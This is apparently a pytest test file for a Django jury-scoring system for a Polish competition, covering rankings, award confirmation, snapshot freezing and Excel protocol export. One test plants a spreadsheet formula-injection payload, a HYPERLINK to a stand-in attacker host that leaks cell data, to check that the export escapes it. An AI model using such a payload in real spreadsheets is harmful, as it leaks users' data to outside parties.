from __future__ import annotations

import datetime as dt
import hashlib
import io

import openpyxl
import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from competition.models import Award
from scoring import permissions, results, services
from scoring.models import AwardDecision, ProtocolExport, ResultSnapshot, Score, TieDecision
from scoring.results import protocol
from tests.factories import BASE, EntryFactory, UserFactory
from tests.scoring.conftest import DURING_SCORING

pytestmark = pytest.mark.django_db

DELIBERATION = BASE + dt.timedelta(days=70)


def score_all(jurors, entries, criteria, table):
    """table[juror index][entry index] = (innowacyjność, rezultaty)."""
    with time_machine.travel(DURING_SCORING, tick=False):
        for j, juror in enumerate(jurors):
            for e, entry in enumerate(entries):
                values = table[j][e]
                if values is None:
                    continue
                services.save_score_sheet(
                    juror=juror,
                    entry=entry,
                    scores={str(c.pk): str(v) for c, v in zip(criteria, values, strict=True)},
                    justification="Uzasadnienie oceny.",
                    version=0,
                    submit=True,
                )


@pytest.fixture
def scored(juror, chair, entries, criteria):
    # Totals (weights 2 and 1): juror → [entry0, entry1, entry2]
    # juror: 2*8+6=22, 2*5+5=15, 2*3+2=8 ; chair: 2*9+7=25, 2*6+4=16, 2*3+3=9
    score_all(
        [juror, chair], entries, criteria, [[(8, 6), (5, 5), (3, 2)], [(9, 7), (6, 4), (3, 3)]]
    )
    return entries


def test_compute_ranks_by_mean_of_weighted_totals(scored, category):
    computed = results.compute(category, bootstrap=0)

    table = computed.result.entries
    assert list(table["entry"]) == [str(e.pk) for e in scored]
    assert list(table["aggregate"]) == [23.5, 15.5, 8.5]
    assert list(table["award"]) == ["place_1", "place_2", "place_3"]


def test_compute_leaves_out_recused_and_draft_sheets(juror, chair, entries, criteria, category):
    score_all([juror], entries, criteria, [[(8, 6), (5, 5), (3, 2)]])
    with time_machine.travel(DURING_SCORING, tick=False):
        services.declare_recusal(juror=chair, entry=entries[0], reason="konflikt")
        services.save_score_sheet(
            juror=chair,
            entry=entries[1],
            scores={str(criteria[0].pk): "10"},
            justification="",
            version=0,
            submit=False,
        )

    table = results.compute(category, bootstrap=0).result.entries

    assert list(table["n_jurors"]) == [1, 1, 1]


def test_confirm_awards_change_needs_justification(scored, category, chair):
    swapped = {str(scored[0].pk): "place_2", str(scored[1].pk): "place_1"}

    with time_machine.travel(DELIBERATION, tick=False):
        with pytest.raises(ValidationError) as excinfo:
            results.confirm_awards(category=category, by=chair, awards=swapped)
        decision = results.confirm_awards(
            category=category,
            by=chair,
            awards=swapped,
            justification="Jury uznało wyższość wdrożenia.",
        )

    assert "justification" in excinfo.value.message_dict
    assert decision.changed
    assert decision.awards[str(scored[1].pk)] == "place_1"


def test_confirm_awards_refused_for_plain_juror(scored, category, juror):
    with time_machine.travel(DELIBERATION, tick=False), pytest.raises(ValidationError) as excinfo:
        results.confirm_awards(category=category, by=juror, awards={})

    assert excinfo.value.code == "forbidden"


def test_confirm_awards_refused_during_scoring(scored, category, chair):
    with time_machine.travel(DURING_SCORING, tick=False), pytest.raises(ValidationError) as excinfo:
        results.confirm_awards(category=category, by=chair, awards={})

    assert excinfo.value.code == "phase_confirm_awards"


def test_chair_breaks_tie_only_the_chair_can_break(juror, chair, entries, criteria, category):
    score_all([juror, chair], entries[:2], criteria, [[(5, 5), (5, 5)], [(5, 5), (5, 5)]])
    before = results.compute(category, bootstrap=0).result
    order = [str(entries[1].pk), str(entries[0].pk)]

    with time_machine.travel(DELIBERATION, tick=False):
        with pytest.raises(ValidationError):
            results.record_tie_decision(category=category, by=juror, order=order, justification="x")
        results.record_tie_decision(
            category=category, by=chair, order=order, justification="Głos przewodniczącej."
        )
    after = results.compute(category, bootstrap=0).result

    assert before.unresolved_ties == [sorted(order)]
    assert list(after.entries["entry"]) == order
    assert list(after.entries["tie_break"]) == ["chair", "chair"]
    assert after.unresolved_ties == []


def freeze(category, organiser, scored, reason=""):
    with time_machine.travel(DELIBERATION, tick=False):
        for c in category.edition.categories.all():
            if not c.award_decisions.exists():
                # One chair per category: use the category's chair, appoint one if it has none.
                chair_user = permissions.chairs_of(c).first()
                if chair_user is None:
                    chair_user = UserFactory(username=f"c{c.pk}")
                    services.appoint(category=c, user=chair_user, chair=True)
                try:
                    results.confirm_awards(category=c, by=chair_user, awards={})
                except ValidationError:
                    from scoring.models import AwardDecision

                    AwardDecision.objects.create(
                        category=c, proposal={}, awards={}, confirmed_by=chair_user
                    )
        return results.freeze_results(edition=category.edition, by=organiser, reason=reason)


def test_freeze_records_snapshot_with_digest_and_awards(scored, category, organiser):
    snapshot = freeze(category, organiser, scored)

    text = results.canonical_json(snapshot.payload)
    assert snapshot.digest == hashlib.sha256(text.encode()).hexdigest()
    assert results.verify(snapshot)
    ranking = snapshot.payload["categories"][0]["ranking"]
    assert [r["award"] for r in ranking] == ["place_1", "place_2", "place_3"]
    assert (
        Award.objects.filter(category=category, place=1).get().institution == scored[0].institution
    )
    category.edition.refresh_from_db()
    assert category.edition.phase_at(DELIBERATION + dt.timedelta(days=1)) == "frozen"


def test_award_table_is_the_projection_of_the_frozen_snapshot(scored, category, organiser):
    from scoring.results.snapshot import Snapshot

    snapshot = freeze(category, organiser, scored)

    expected = sorted(
        (c.id, row.ranked.institution_id, row.award.place, row.ranked.title)
        for c in Snapshot.of(snapshot).categories
        for row in c.laureates
    )
    stored = sorted(
        Award.objects.filter(category__edition=category.edition).values_list(
            "category_id", "institution_id", "place", "project_title"
        )
    )
    assert stored == expected
    assert len(stored) == 3


def test_snapshot_is_immutable(scored, category, organiser):
    snapshot = freeze(category, organiser, scored)

    snapshot.payload = {}
    with pytest.raises(ValidationError):
        snapshot.save()
    with pytest.raises(ValidationError):
        snapshot.delete()
    with pytest.raises(ValidationError):
        ResultSnapshot.objects.filter(pk=snapshot.pk).update(digest="0" * 64)
    with pytest.raises(ValidationError):
        ResultSnapshot.objects.all().delete()

    assert results.verify(ResultSnapshot.objects.get(pk=snapshot.pk))


def test_correction_supersedes_with_reason(scored, category, organiser, chair):
    first = freeze(category, organiser, scored)

    with time_machine.travel(DELIBERATION, tick=False):
        with pytest.raises(ValidationError) as no_reason:
            results.freeze_results(edition=category.edition, by=organiser)
        with pytest.raises(ValidationError) as unchanged:
            results.freeze_results(edition=category.edition, by=organiser, reason="Bez zmian.")
        results.confirm_awards(
            category=category,
            by=chair,
            awards={str(scored[2].pk): None},
            justification="Trzecie miejsce nieprzyznane.",
        )
        second = results.freeze_results(
            edition=category.edition, by=organiser, reason="Korekta trzeciego miejsca."
        )

    assert "reason" in no_reason.value.message_dict
    assert unchanged.value.code == "unchanged"
    assert second.supersedes == first
    assert ResultSnapshot.objects.count() == 2
    assert not Award.objects.filter(category=category, place=3).exists()


def test_freeze_refused_for_chair(scored, category, chair):
    with time_machine.travel(DELIBERATION, tick=False), pytest.raises(ValidationError) as excinfo:
        results.freeze_results(edition=category.edition, by=chair)

    assert excinfo.value.code == "forbidden"


def test_protocol_writes_titles_names_and_justifications_as_text(
    scored, category, organiser, juror
):
    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"Kliknij")'
    scored[0].title = formula
    scored[0].save()
    juror.first_name = "=1+1"
    juror.save()
    snapshot = freeze(category, organiser, scored)
    buffer = io.BytesIO()

    protocol.write_protocol(snapshot, buffer)

    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert formula in texts
    assert "=1+1" in texts


def test_protocol_workbook_read_back_equals_snapshot(scored, category, organiser, juror, chair):
    snapshot = freeze(category, organiser, scored)
    buffer = io.BytesIO()

    protocol.write_protocol(snapshot, buffer)

    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    assert workbook.sheetnames == [
        "Protokół",
        "Skład jury",
        category.name,
        "Oceny",
        "Decyzje",
        "Podpisy",
    ]
    cover = {row[0]: row[1] for row in workbook["Protokół"].iter_rows(values_only=True)}
    assert cover["Skrót (SHA-256)"] == snapshot.digest
    sheet = workbook[category.name]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    ranking = snapshot.payload["categories"][0]["ranking"]
    assert [(r[0], r[2], r[5]) for r in rows] == [
        (r["position"], r["number"], r["aggregate"]) for r in ranking
    ]
    assert [r[-1] for r in rows] == ["I miejsce", "II miejsce", "III miejsce"]
    scores = list(workbook["Oceny"].iter_rows(min_row=2, values_only=True))
    assert len(scores) == len(list(protocol.iter_scores(snapshot.payload["scores"]))) == 12
    assert all(isinstance(r[5], int | float) for r in scores)
    first_juror = min([juror, chair], key=lambda u: u.pk)
    assert scores[0] == (
        category.name,
        "T-1",
        scored[0].title,
        first_juror.get_full_name() or first_juror.username,
        "Innowacyjność",
        8 if first_juror == juror else 9,
    )


def test_snapshot_scores_are_one_line_per_sheet_and_read_back_exactly(
    scored, category, organiser, criteria, juror, chair
):
    snapshot = freeze(category, organiser, scored)

    [block] = snapshot.payload["scores"]
    assert block["category"] == category.pk
    assert block["criteria"] == [c.pk for c in criteria]
    # Sorted by entry, then juror; values in the criteria's order (juror: 8, 6; chair: 9, 7).
    first_juror = min([juror, chair], key=lambda u: u.pk)
    values = "8.0 6.0" if first_juror == juror else "9.0 7.0"
    assert block["sheets"].splitlines()[0] == f"{scored[0].pk} {first_juror.pk} {values}"
    assert len(block["sheets"].splitlines()) == 6
    expected = {
        (category.pk, s.sheet.entry_id, s.sheet.juror_id, s.criterion_id, float(s.value))
        for s in Score.objects.select_related("sheet")
    }
    assert set(protocol.iter_scores(snapshot.payload["scores"])) == expected


def test_scores_payload_marks_criteria_missing_from_a_sheet():
    rows = [(2, 10, 5, 102, 6.5), (1, 11, 5, 101, 7.25), (1, 10, 6, 101, 3.0), (1, 10, 5, 102, 4.0)]

    blocks = results.scores_payload(rows, categories=[1, 2], criteria=[101, 102])

    assert blocks == [
        {"category": 1, "criteria": [101, 102], "sheets": "10 5 - 4.0\n10 6 3.0 -\n11 5 7.25 -"},
        {"category": 2, "criteria": [102], "sheets": "10 5 6.5"},
    ]
    assert sorted(protocol.iter_scores(blocks)) == sorted(rows)
    # Snapshots frozen before the compact form keep a list per score.
    assert list(protocol.iter_scores([list(r) for r in rows])) == rows


def test_protocol_task_builds_file_and_reports_progress(scored, category, organiser, client):
    snapshot = freeze(category, organiser, scored)
    client.force_login(organiser)

    client.post(reverse("scoring:protocol", args=[snapshot.pk]))
    export = ProtocolExport.objects.get()
    status = client.get(reverse("scoring:protocol_status", args=[export.pk])).json()
    download = client.get(reverse("scoring:protocol_download", args=[export.pk]))

    assert status == {"status": "done", "label": "zakończono", "progress": 100}
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert "Oceny" in workbook.sheetnames


RESULT_ROLES = {
    "anonymous": 302,
    "applicant": 404,
    "other_applicant": 404,
    "juror": 404,
    "other_juror": 404,
    "chair": 200,
    "organiser": 200,
    "other_organiser": 404,
}


@pytest.mark.parametrize(("role", "status"), list(RESULT_ROLES.items()))
def test_results_page_for_each_role(client, request, scored, category, role, status):
    if role != "anonymous":
        client.force_login(request.getfixturevalue(role))

    response = client.get(reverse("scoring:results", args=[category.pk]))

    assert response.status_code == status
    if status == 200:
        body = response.content.decode()
        assert "<svg" in body and 'role="img"' in body
        assert "23,500" in body or "23.500" in body


@pytest.mark.parametrize("role", ["juror", "chair", "applicant", "other_organiser"])
def test_edition_results_and_freeze_are_for_organisers_only(
    client, request, scored, category, role
):
    client.force_login(request.getfixturevalue(role))

    page = client.get(reverse("scoring:edition_results", args=[category.edition.pk]))
    post = client.post(reverse("scoring:freeze", args=[category.edition.pk]))

    assert (page.status_code, post.status_code) == (404, 404)
    assert not ResultSnapshot.objects.exists()


def test_results_page_query_count_same_for_5_and_50_entries(
    client, organiser, category, criteria, juror, chair
):
    def build(n, start):
        made = [
            EntryFactory(
                category=category, status="eligible", sequence=start + i, number=f"R-{start + i}"
            )
            for i in range(n)
        ]
        score_all([juror, chair], made, criteria, [[(5, 5)] * n, [(6, 4)] * n])

    def cold_and_warm() -> tuple[int, int, object]:
        with CaptureQueriesContext(connection) as cold:
            client.get(url)
        with CaptureQueriesContext(connection) as warm:
            response = client.get(url)
        return len(cold), len(warm), response

    client.force_login(organiser)
    url = reverse("scoring:results", args=[category.pk])
    client.get(url)  # the first request of a session fills per-process caches (content types)
    build(5, 100)
    cold_five, warm_five, _response = cold_and_warm()
    build(45, 200)
    cold_fifty, warm_fifty, response = cold_and_warm()

    assert len(response.context["rows"]) == 50
    assert (cold_fifty, warm_fifty) == (cold_five, warm_five)
    # Warm, the page takes the stored computation instead of reading the scores again.
    assert warm_five < cold_five


def test_freeze_refuses_when_the_ranking_moved_after_confirmation(
    scored, category, organiser, chair, juror
):
    with time_machine.travel(DELIBERATION, tick=False):
        results.confirm_awards(category=category, by=chair, awards={})
        # The chair's sheet for the top entry leaves the ranking: entry 0 (25+22) falls.
        services.record_late_conflict(
            juror=chair, entry=scored[0], by=organiser, reason="Przewodnicząca doradzała gminie."
        )
        services.record_late_conflict(
            juror=juror, entry=scored[0], by=organiser, reason="Juror doradzał gminie w 2025."
        )
        with pytest.raises(ValidationError) as excinfo:
            results.freeze_results(edition=category.edition, by=organiser)

    assert excinfo.value.code == "stale_confirmation"
    assert category.name in excinfo.value.messages[0]
    assert not ResultSnapshot.objects.exists()


def test_confirmation_after_the_freeze_changes_nothing_until_a_correction(
    scored, category, organiser, chair
):
    snapshot = freeze(category, organiser, scored)

    with time_machine.travel(DELIBERATION, tick=False):
        results.confirm_awards(
            category=category,
            by=chair,
            awards={str(scored[0].pk): "place_2", str(scored[1].pk): "place_1"},
            justification="Zamiana po ponownym przeczytaniu.",
        )

    assert ResultSnapshot.objects.get() == snapshot
    assert Award.objects.get(category=category, place=1).project_title == scored[0].title


@pytest.mark.django_db(transaction=True)
def test_freeze_and_confirmations_race_the_snapshot_keeps_the_last_confirmed(
    category, criteria, organiser
):
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL's row locking to be meaningful")
    import threading
    import time

    chair_user = UserFactory(username="race-chair")
    other = UserFactory(username="race-juror")
    services.appoint(category=category, user=chair_user, chair=True)
    services.appoint(category=category, user=other)
    # Enough entries that the freeze's payload (bootstrap included) takes a while to build.
    entries = [
        EntryFactory(category=category, status="eligible", number=f"R-{n}", sequence=n)
        for n in range(1, 41)
    ]
    table = [
        [(8, 6), (5, 5), *[(3, n % 10) for n in range(38)]],
        [(9, 7), (6, 4), *[(2, n % 9) for n in range(38)]],
    ]
    score_all([chair_user, other], entries, criteria, table)
    swaps = [
        {},
        {str(entries[0].pk): "place_2", str(entries[1].pk): "place_1"},
    ]
    # Time ticks here: the timestamps tell which decisions came before the freeze's lock.
    with time_machine.travel(DELIBERATION, tick=True):
        results.confirm_awards(category=category, by=chair_user, awards={})
        barrier = threading.Barrier(20)
        errors: list[Exception] = []

        def confirm(n: int) -> None:
            # Confirmations keep coming while the freeze computes, so they overlap it.
            try:
                barrier.wait()
                for round_ in range(6):
                    time.sleep(0.03 * round_)
                    results.confirm_awards(
                        category=category,
                        by=chair_user,
                        awards=swaps[(n + round_) % 2],
                        justification="Zmiana kolejności." if (n + round_) % 2 else "",
                    )
            except ValidationError as error:
                if error.code != "phase_confirm_awards":
                    errors.append(error)
            finally:
                connection.close()

        def freeze_now() -> None:
            try:
                barrier.wait()
                results.freeze_results(edition=category.edition, by=organiser)
            except ValidationError:
                pass
            finally:
                connection.close()

        threads = [threading.Thread(target=confirm, args=(n,)) for n in range(10)]
        threads += [threading.Thread(target=freeze_now) for _ in range(10)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    snapshot = ResultSnapshot.objects.get()
    # The decision in force when the freeze took the lock is the last one confirmed before it.
    decisions = category.award_decisions.filter(confirmed_at__lte=snapshot.created_at)
    last = decisions.order_by("-confirmed_at", "-pk").first()
    frozen = {r["entry"]: r["award"] for r in snapshot.payload["categories"][0]["ranking"]}
    assert frozen == {**last.proposal, **last.awards}
    assert errors == []


def test_protocol_decisions_show_warsaw_time(scored, category, organiser):
    snapshot = freeze(category, organiser, scored)  # confirmed at 12:00 UTC on 11 May (CEST)
    buffer = io.BytesIO()

    protocol.write_protocol(snapshot, buffer)

    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    [decision] = list(workbook["Decyzje"].iter_rows(min_row=2, values_only=True))
    assert decision[3] == "11 maja 2026, 14:00"


NUL_MESSAGE = "Znaki null są niedozwolone."


def test_break_tie_with_null_character_is_refused(
    client, juror, chair, entries, criteria, category
):
    score_all([juror, chair], entries[:2], criteria, [[(5, 5), (5, 5)], [(5, 5), (5, 5)]])
    client.force_login(chair)
    data = {f"tie_{entries[1].pk}": "1", f"tie_{entries[0].pk}": "2", "justification": "Głos\x00"}

    with time_machine.travel(DELIBERATION, tick=False):
        response = client.post(reverse("scoring:break_tie", args=[category.pk]), data, follow=True)

    assert NUL_MESSAGE in response.content.decode()
    assert not TieDecision.objects.exists()


@pytest.mark.parametrize("field", ["justification", "award"])
def test_confirm_awards_with_null_character_is_refused(client, scored, category, chair, field):
    client.force_login(chair)
    data = {f"award_{scored[0].pk}": "place_1", "justification": "Zmiana."}
    if field == "justification":
        data["justification"] = "Zmiana\x00"
    else:
        data[f"award_{scored[0].pk}"] = "place_1\x00"

    with time_machine.travel(DELIBERATION, tick=False):
        response = client.post(
            reverse("scoring:confirm_awards", args=[category.pk]), data, follow=True
        )

    assert NUL_MESSAGE in response.content.decode()
    assert not AwardDecision.objects.exists()


def test_freeze_with_null_character_in_reason_is_refused(client, scored, category, organiser):
    snapshot = freeze(category, organiser, scored)
    client.force_login(organiser)

    with time_machine.travel(DELIBERATION, tick=False):
        response = client.post(
            reverse("scoring:freeze", args=[category.edition.pk]),
            {"reason": "Korekta\x00"},
            follow=True,
        )

    assert NUL_MESSAGE in response.content.decode()
    assert list(ResultSnapshot.objects.all()) == [snapshot]


@pytest.fixture
def idle_official(category, entries):
    """Appointed, but an affiliation with the whole region keeps them from every entry."""
    from competition.teryt import InstitutionKind
    from scoring.models import JurorProfile
    from tests.factories import InstitutionFactory

    user = UserFactory(username="urzednik", first_name="Ewa", last_name="Urzędnik")
    JurorProfile.objects.create(
        user=user, affiliation=InstitutionFactory(kind=InstitutionKind.WOJEWODZTWO, terc="14")
    )
    services.appoint(category=category, user=user)
    return user


def test_snapshot_marks_which_jurors_scored(scored, category, organiser, idle_official):
    snapshot = freeze(category, organiser, scored)

    jury = snapshot.payload["categories"][0]["jury"]
    assert {j["name"]: j["scored"] for j in jury} == {
        "Ewa Urzędnik": False,
        "chair": True,
        "juror": True,
    }
    assert sorted(
        j["name"] for j in results.jurors_who_scored(snapshot.payload["categories"][0])
    ) == [
        "chair",
        "juror",
    ]


def test_protocol_names_as_the_jury_only_those_who_scored(
    scored, category, organiser, idle_official
):
    snapshot = freeze(category, organiser, scored)
    buffer = io.BytesIO()

    protocol.write_protocol(snapshot, buffer)

    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    cover = {row[0]: row[1] for row in workbook["Protokół"].iter_rows(values_only=True)}
    headers = next(workbook[category.name].iter_rows(max_row=1, values_only=True))
    assert sorted(cover[f"Jury: {category.name}"].split(", ")) == ["chair", "juror"]
    assert cover["Przewodniczący"] == "chair"
    assert cover["Powołani, nie ocenili żadnego zgłoszenia"] == "Ewa Urzędnik"
    assert "Ewa Urzędnik" not in headers


def test_dismissed_juror_keeps_sheets_and_is_listed_as_dismissed(
    client, scored, category, organiser, juror, chair
):
    services.dismiss(category=category, user=juror)
    client.force_login(chair)

    page = client.get(reverse("scoring:results", args=[category.pk])).content.decode()
    snapshot = freeze(category, organiser, scored)
    buffer = io.BytesIO()
    protocol.write_protocol(snapshot, buffer)

    assert "juror (odwołany)" in page
    jury = snapshot.payload["categories"][0]["jury"]
    assert {(j["name"], j["dismissed"]) for j in jury} >= {("juror", True), ("chair", False)}
    assert snapshot.payload["categories"][0]["ranking"][0]["juror_totals"][str(juror.pk)] == 22
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))[category.name]
    headers = [c.value for c in sheet[1]]
    assert "juror (odwołany)" in headers
    assert str(juror.pk) not in headers


def test_results_page_offers_award_controls_only_to_contenders(
    client, organiser, category, criteria, juror, chair
):
    category.places, category.max_distinctions = 3, 0
    category.save(update_fields=["places", "max_distinctions"])
    made = [
        EntryFactory(category=category, status="eligible", sequence=n, number=f"C-{n:02}")
        for n in range(1, 11)
    ]
    score_all(
        [juror, chair],
        made,
        criteria,
        [[(10 - n % 10, 5) for n in range(10)], [(10 - n % 10, 4) for n in range(10)]],
    )
    client.force_login(organiser)

    with time_machine.travel(DELIBERATION, tick=False):
        page = client.get(reverse("scoring:results", args=[category.pk]))

    body = page.content.decode()
    # Three places and the next three below them; the rest keep "no award".
    assert [row["object"].number for row in page.context["award_rows"]] == [
        "C-01",
        "C-02",
        "C-03",
        "C-04",
        "C-05",
        "C-06",
    ]
    assert body.count('<select id="award_') == 6
    assert len(page.context["rows"]) == 10


def test_results_page_warns_before_confirming_while_sheets_are_missing(
    client, organiser, scored, category, second_juror
):
    client.force_login(organiser)

    with time_machine.travel(DELIBERATION, tick=False):
        body = client.get(reverse("scoring:results", args=[category.pk])).content.decode()

    assert "Brakuje jeszcze 3 kart oceny: ranking może się zmienić" in body
    assert "Brakuje jeszcze kart oceny. Czy mimo to zatwierdzić te nagrody?" in body


def test_results_page_says_nothing_of_missing_sheets_when_all_are_in(
    client, organiser, scored, category
):
    client.force_login(organiser)

    with time_machine.travel(DELIBERATION, tick=False):
        body = client.get(reverse("scoring:results", args=[category.pk])).content.decode()

    assert "Brakuje jeszcze" not in body


def test_results_page_says_when_jurors_share_no_entries(
    client, juror, second_juror, chair, entries, criteria, category
):
    # juror and chair score the first entry only, juror2 the other two: two groups.
    score_all(
        [juror, chair, second_juror],
        entries,
        criteria,
        [[(8, 6), None, None], [(9, 7), None, None], [None, (5, 5), (3, 2)]],
    )
    client.force_login(chair)
    # The English page, so the check does not wait for the Polish translation; the override
    # restores the language the request leaves active.
    with translation.override("en"):
        response = client.get(reverse("scoring:results", args=[category.pk]))

    assert response.context["design_connected"] is False
    assert "no entry in common" in response.content.decode()


def test_results_page_linked_jurors_get_no_warning(client, scored, category, chair):
    client.force_login(chair)
    # The English page, so the check does not wait for the Polish translation; the override
    # restores the language the request leaves active.
    with translation.override("en"):
        response = client.get(reverse("scoring:results", args=[category.pk]))

    assert response.context["design_connected"] is True
    assert "no entry in common" not in response.content.decode()
